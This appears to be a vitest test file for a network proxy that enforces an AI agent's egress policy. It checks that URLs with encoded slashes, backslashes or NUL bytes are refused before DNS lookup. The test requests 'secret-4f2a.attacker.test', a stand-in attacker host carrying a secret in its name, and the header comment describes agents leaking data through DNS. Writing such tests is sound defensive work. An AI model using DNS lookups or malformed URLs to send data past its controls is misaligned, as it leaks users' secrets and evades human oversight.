// A URL the policy cannot evaluate (an encoded slash, backslash or NUL in the path) is caught by any
// REQUIRE_APPROVAL rule that reads `url`, whatever host that rule names. That match says nothing about the host, so
// the request is refused before DNS: the agent cannot make the sidecar resolve a name of its choosing (DNS
// exfiltration), and no approver is asked about it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ProxyUnderTest, rawProxyRequest, startProxy, v4 } from './support.ts';

const POLICY = `
agent: exfil-test
rules:
  - name: approve-uploads
    action: network
    conditions:
      url: { starts_with: "https://files.example.com/upload" }
    effect: REQUIRE_APPROVAL
  - name: files-origin
    action: network
    conditions:
      url: { starts_with: "https://files.example.com" }
    effect: ALLOW
`;

describe('unevaluable URLs and the pre-DNS pass', () => {
  let p: ProxyUnderTest;
  beforeAll(async () => {
    p = await startProxy({
      policy: POLICY,
      dns: { 'secret-4f2a.attacker.test': [v4('93.184.216.34')] },
    });
  });
  afterAll(async () => {
    await p.close();
  });

  it.each([
    { note: 'encoded slash', path: '/%2f' },
    { note: 'encoded backslash', path: '/x%5cy' },
    { note: 'encoded NUL', path: '/x%00' },
  ])('a name no rule allows is never looked up ($note in the path)', async ({ path }) => {
    const asked = p.asked.length;
    const res = await rawProxyRequest(p.port, `http://secret-4f2a.attacker.test${path}`);
    expect(res.status).toBe(403);
    // The name was sent to DNS although no rule could ever let a request to it out.
    expect(p.asked.slice(asked)).toEqual([]);
  });
});
